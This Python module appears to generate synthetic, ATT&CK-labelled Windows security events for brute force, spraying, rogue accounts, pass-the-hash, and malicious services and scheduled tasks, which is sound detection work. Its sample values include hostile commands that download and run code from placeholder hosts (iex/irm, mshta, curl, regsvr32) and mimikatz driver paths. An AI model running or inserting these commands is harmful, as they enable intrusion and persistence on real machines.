"""Guessed, sprayed and stolen passwords; accounts that intruders make."""

from __future__ import annotations

from generator.families.windows.desk import Desk
from generator.families.windows.logon_events import account_changed, explicit_logon, kerberos_failed, logged_on, logon_failed, member_added, ntlm_checked, security, service_installed, share_used, subject, task_created
from generator.scene import Scene, aftermath, attack, family
from generator.world import World

GUESSED = ["Administrator", "administrator", "admin", "ADMINISTRATOR", "user", "test", "guest", "scan", "support", "sql", "backup", "Administrateur", "Administrador", "owner", "pos", "office", "reception"]


@family("windows/password-guessing", attack=True, weight=2)
def password_guessing(world: World) -> Scene:
    """Many failures of one account from one place, at last with success or without."""
    desk = Desk(world)
    count = world.pick([3, 5, 6, 10, 20, 40])
    kind = world.pick([3, 3, 10, 8])
    user = world.pick(GUESSED + [desk.user, world.user()])
    source, workstation = world.ip(), world.pick([world.workstation(), "workstation", "-", ""])
    success = world.chance(0.3)
    label = attack("Brute Force Attack", "T1110.001") if success or count > 6 else attack("Windows Threat: Failed Login", "T1110.001")
    kerberos, ntlm = world.chance(0.2), world.chance(0.15)
    for _ in range(count):
        status = world.pick(["0xC000006A"] * 5 + ["0xC0000234"])
        desk.add(kerberos_failed(desk, user, source) if kerberos else ntlm_checked(desk, user, workstation, status) if ntlm else logon_failed(desk, user, source, kind, status, workstation=workstation), label)
    if success:
        done = aftermath(attack("Brute Force Attack — Successful Login", "T1110.001", "T1078", severity="CRITICAL"))
        desk.add(logged_on(desk, user, source, kind if kind != 8 else 3, "NTLM" if kind == 3 else None), done)
        if world.chance(0.4):
            desk.add(security(4672, "Special privileges assigned to new logon.", {**subject(desk, user), "PrivilegeList": "SeSecurityPrivilege SeBackupPrivilege SeRestorePrivilege SeTakeOwnershipPrivilege SeDebugPrivilege SeImpersonatePrivilege"}), done)
    return desk.scene


@family("windows/password-spraying", attack=True, weight=1.5)
def password_spraying(world: World) -> Scene:
    """One place tries many accounts, each once or twice."""
    desk = Desk(world)
    source, workstation, way = world.ip(), world.workstation(), world.pick(["4625", "4625", "4771", "4776", "4648"])
    unknown = world.chance(0.3)
    label = attack("User Enumeration", "T1087", "T1589.001", severity="MEDIUM") if unknown else attack("Password Spraying", "T1110.003")
    for _ in range(world.number(5, 25)):
        user = world.user() if not unknown or world.chance(0.5) else world.pick(GUESSED)
        if way == "4625":
            desk.add(logon_failed(desk, user, source, 3, "0xC0000064" if unknown else world.pick(["0xC000006A", "0xC000006A", "0xC0000072"]), workstation=workstation), label)
        elif way == "4771" or (way == "4648" and unknown):
            desk.add(kerberos_failed(desk, user, source, "0x6" if unknown else "0x18"), label)
        elif way == "4776":
            desk.add(ntlm_checked(desk, user, workstation, "0xC0000064" if unknown else "0xC000006A"), label)
        else:
            desk.add(explicit_logon(desk, user, world.pick(["localhost", f"dc01.{world.domain}"]), desk.fill(world.pick(["C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "@tmp@@word@.exe"]))), label)
    return desk.scene


@family("windows/lone-failure-from-outside", attack=True)
def lone_failure_from_outside(world: World) -> Scene:
    """A handful of guesses at an administrator from the internet."""
    desk = Desk(world)
    label = attack("Windows Threat: Failed Login", "T1110", severity="MEDIUM")
    source = world.ip_public()
    for _ in range(world.pick([3, 3, 4, 5])):
        desk.add(logon_failed(desk, world.pick(GUESSED), source, world.pick([3, 10]), world.pick(["0xC0000064", "0xC000006A"])), label)
    return desk.scene


@family("windows/explicit-credentials-hostile", attack=True)
def explicit_credentials_hostile(world: World) -> Scene:
    """A strange or script program logs on as somebody mighty."""
    desk = Desk(world)
    label = attack("Windows Threat: Explicit Credential Logon", "T1134", "T1078")
    process = desk.fill(world.pick(["@tmp@@word@.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "@tmp@PsExec.exe", "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\wbem\\WMIC.exe", "@tmp@Rubeus.exe", "C:\\Windows\\System32\\rundll32.exe", "C:\\Windows\\SysWOW64\\mshta.exe", "C:\\Users\\Public\\svchost.exe", "C:\\Windows\\System32\\net.exe"]))
    for _ in range(world.pick([1, 1, 2, 5])):
        desk.add(explicit_logon(desk, world.pick(["Administrator", "krbtgt", "da-" + world.user(), "adm_" + world.user(), "svc_backup", "domainadmin"]), world.pick([f"dc01.{world.domain}", "DC1", world.host(), f"cifs/{world.host()}"]), process, source=world.pick(["-", world.ip()])), label)
    return desk.scene


@family("windows/account-made-by-intruder", attack=True, weight=1.5)
def account_made_by_intruder(world: World) -> Scene:
    """A new account with a name that hides, at once an administrator."""
    desk = Desk(world)
    user = world.pick(["support_388945a0", "DefaultUser1", "WDAGUtilityAccount2", "admin$", "sysadm", "HelpAssistant", "krbtgt_" + world.word(3), "svc_update$", "Administrat0r", "guest1", world.word(6), "test123", "IIS_USR", "backup_admin", "adm1n", "ASPNET$", "SQLDebugger", world.word(8) + "$"])
    # A new account alone is any day's work of an administrator; its place in a group of the mighty tells.
    label = aftermath(attack("Windows Threat: User Account Created", "T1136.001", severity="MEDIUM"))
    group = attack("Persistence", "T1098.007", "T1136.001")
    by = world.pick(["SYSTEM", None, "IUSR", "Administrator", "DefaultAppPool", "MSSQLSERVER"])
    desk.add(account_changed(desk, 4720, user, by), label)
    if world.chance(0.4):
        desk.add(account_changed(desk, 4722, user, by), label)
        desk.add(account_changed(desk, 4724, user, by), label)
    if world.chance(0.7):
        desk.add(member_added(desk, 4732, world.pick(["Administrators", "Administrators", "Remote Desktop Users", "Administratoren"]), user, by), group)
    elif world.chance(0.3):
        desk.add(member_added(desk, world.pick([4728, 4756]), world.pick(["Domain Admins", "Enterprise Admins", "Schema Admins"]), user, by), group)
    return desk.scene


@family("windows/pass-the-hash-and-overpass", attack=True)
def pass_the_hash(world: World) -> Scene:
    """Network logons of an administrator by NTLM from a PC; new credentials logons of seclogo."""
    desk = Desk(world)
    label = attack("Lateral Movement", "T1550.002")
    source, user = world.ip_private(), world.pick(["Administrator", "adm-" + world.user(), "svc_sql"])
    if world.chance(0.4):
        desk.add(logged_on(desk, user, "::1", 9, "Negotiate", "C:\\Windows\\System32\\svchost.exe"), label)
        desk.add(security(4672, "Special privileges assigned to new logon.", {**subject(desk, user), "PrivilegeList": "SeDebugPrivilege SeImpersonatePrivilege"}), aftermath(label))
    else:
        for _ in range(world.pick([1, 2, 4])):
            desk.add(logged_on(desk, user, source, 3, "NTLM", elevated=True), aftermath(label))
        desk.add(share_used(desk, user, source, "\\\\*\\ADMIN$", None), label)
    if world.chance(0.5):
        desk.add(share_used(desk, user, source, "\\\\*\\IPC$", world.pick(["svcctl", "atsvc", "samr", "winreg", "lsarpc"])), aftermath(label))
    return desk.scene


@family("windows/admin-shares-hostile", attack=True)
def admin_shares_hostile(world: World) -> Scene:
    """Programs laid on another machine's administrative share, started as services or tasks."""
    desk = Desk(world)
    source, user = world.ip_private(), world.user()
    label = attack("Lateral Movement", "T1021.002", "T1570", "T1569.002")
    program = desk.fill(world.pick(["@word@.exe", "PSEXESVC.exe", "Temp\\@word@.exe", "@word@.dll", "System32\\@word@.tmp", "Temp\\@word@.bat", "__output", "Users\\Public\\@word@.exe", "remcom_comunication", "Temp\\__@n@.@n@", "ProgramData\\@word@.ps1", "BTOBTO"]))
    desk.add(share_used(desk, user, source, world.pick(["\\\\*\\ADMIN$", "\\\\*\\C$"]), program), label)
    for pipe in world.some(["svcctl", f"PSEXESVC-{world.workstation()}-{world.pid()}-stdin", "atsvc", "RemCom_communicaton", "samr", "epmapper", "srvsvc"], 0, 3):
        desk.add(share_used(desk, user, source, "\\\\*\\IPC$", pipe), label if "SVC-" in pipe or "Rem" in pipe else aftermath(label))
    return desk.scene


@family("windows/service-installed-hostile", attack=True, weight=2)
def service_installed_hostile(world: World) -> Scene:
    """A service whose program is a shell, a script, or lies where no service's does."""
    desk = Desk(world)
    label = attack("Windows Threat: New Service Installed", "T1543.003", "T1569.002")
    name, path = world.pick([("PSEXESVC", "%SystemRoot%\\PSEXESVC.exe"), ("@Word@", "%COMSPEC% /b /c start /b /min powershell -nop -w hidden -encodedcommand ⟦$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sI'))⟧"), ("BTOBTO", "%COMSPEC% /Q /c echo cd  ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat & %COMSPEC% /Q /c %TEMP%\\execute.bat & del %TEMP%\\execute.bat"), ("@hex@", "\\\\127.0.0.1\\ADMIN$\\@hex@.exe"), ("@word@", "cmd.exe /c echo @word@ > \\\\.\\pipe\\@word@"), ("@Word@Svc", "@tmp@@word@.exe"), ("WindowsUpdateSvc", "C:\\ProgramData\\@word@\\svchost.exe"), ("@Word@ Helper", "C:\\Windows\\Temp\\@word@.exe -k"), ("@word@", "rundll32.exe C:\\Windows\\Temp\\@word@.dll,Start"), ("mimidrv", "C:\\Users\\@user@\\Downloads\\x64\\mimidrv.sys"), ("@word@", "C:\\Windows\\@Word@.exe"), ("RemComSvc", "%SystemRoot%\\RemComSvc.exe"), ("PAExec-@n@-@me@", "C:\\Windows\\PAExec-@n@-@me@.exe -service"), ("WinSvc@n@", "mshta.exe http://@pub@/@word@.hta"), ("AnyDesk", "\"C:\\ProgramData\\anydesk\\AnyDesk.exe\" --service"), ("ngrok", "C:\\Users\\Public\\ngrok.exe tcp 3389 --authtoken @hex@@hex@"), ("gupdate2", "cmd /c powershell iex(irm http://@pub@:8080/a)"), ("@word@", "C:\\PerfLogs\\@word@.sys"), ("RTCore64", "C:\\Users\\@user@\\AppData\\Local\\Temp\\RTCore64.sys"), ("nssm_@word@", "C:\\Users\\Public\\nssm.exe"), ("csexecsvc", "%SystemRoot%\\csexecsvc.exe"), ("KProcessHacker3", "C:\\Users\\@user@\\Downloads\\kprocesshacker.sys"), ("@Word@Monitor", "C:\\Users\\@user@\\AppData\\Roaming\\xmrig\\xmrig.exe --config=config.json")])
    desk.add(service_installed(desk, desk.fill(name), desk.fill(path), world.pick(["demand start", "auto start"]), security_log=world.chance(0.4)), label)
    return desk.scene


@family("windows/task-created-hostile", attack=True, weight=1.5)
def task_created_hostile(world: World) -> Scene:
    """A task that starts a script, a downloader or a program from a user's folders."""
    desk = Desk(world)
    label = attack("Windows Threat: Scheduled Task Created", "T1053.005")
    name = desk.fill(world.pick(["\\@word@", "\\@hex@", "\\Microsoft\\Windows\\@Word@", "\\MicrosoftEdgeUpdateTaskMachine", "\\GoogleUpdateTask{@guid@}", "\\OneDrive Reporting Task-@n@", "\\Windows Update Check", "\\Microsoft\\Windows\\UpdateOrchestrator\\@Word@", "\\CleanupTemporaryState", "\\SystemHealthCheck", "\\Adobe Flash Updater", "\\wermgr-@n@"]))
    command, arguments = world.pick([("powershell.exe", "-nop -w hidden -enc ⟦IEX(irm @url@)⟧"), ("@tmp@@word@.exe", ""), ("cmd.exe", "/c start /min @tmp@@word@.bat"), ("rundll32.exe", "C:\\Users\\@user@\\AppData\\Roaming\\@word@.dll,Start"), ("mshta.exe", "@url@.hta"), ("wscript.exe", "//B C:\\Users\\Public\\@word@.vbs"), ("regsvr32.exe", "/s /i:@url@.sct scrobj.dll"), ("%LOCALAPPDATA%\\@word@\\@word@.exe", "--min"), ("cmd.exe", "/C tasklist &gt; C:\\Windows\\Temp\\@word@.tmp 2&gt;&amp;1"), ("C:\\ProgramData\\@word@\\AutoIt3.exe", "C:\\ProgramData\\@word@\\@word@.a3x"), ("C:\\Windows\\System32\\cmd.exe", "/c curl @url@ -o %TEMP%\\@word@.exe"), ("conhost.exe", "--headless powershell -c iwr @url@|iex"), ("C:\\Users\\@user@\\AppData\\Roaming\\tor\\tor.exe", "-f torrc")])
    trigger = world.pick(["<LogonTrigger><Enabled>true</Enabled></LogonTrigger>", "<TimeTrigger><Repetition><Interval>PT1M</Interval></Repetition></TimeTrigger>", "<BootTrigger/>", "<CalendarTrigger><Repetition><Interval>PT5M</Interval></Repetition><ScheduleByDay/></CalendarTrigger>", "<RegistrationTrigger/>", "<TimeTrigger><StartBoundary>2015-07-15T20:35:13</StartBoundary></TimeTrigger>"])
    desk.add(task_created(desk, name, desk.fill(command), desk.fill(arguments), trigger, desk.account(), world.pick(["S-1-5-18", desk.account()]), world.pick([4698, 4698, 4698, 4702])), label)
    return desk.scene
